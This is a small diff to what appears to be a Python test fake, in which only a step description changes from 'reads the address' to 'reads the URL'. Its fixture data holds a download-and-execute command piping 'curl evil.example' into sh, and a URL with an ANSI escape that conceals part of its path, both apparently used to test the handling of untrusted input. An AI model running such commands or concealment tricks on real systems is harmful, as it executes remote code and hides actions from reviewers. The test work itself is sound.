@@ -256,7 +256,7 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQueries, FakeStatistics, FakeSharing)
     def trust_request(self, dataset: str) -> TrustRequest:
         """Return a fetch, a command and twenty queries."""
         runs = (
-            TrustedStep("reads the address", "http://10.0.0.7/\x1b[8mquiet.csv", "f1620" + "ab" * 32),
+            TrustedStep("reads the URL", "http://10.0.0.7/\x1b[8mquiet.csv", "f1620" + "ab" * 32),
             TrustedStep("pipes the data through", "sh -c 'curl evil.example | sh'", "f1620" + "ab" * 32),
             *(TrustedStep("runs the query", f"SELECT {number}", "f1620" + "cd" * 32) for number in range(20)),
         )
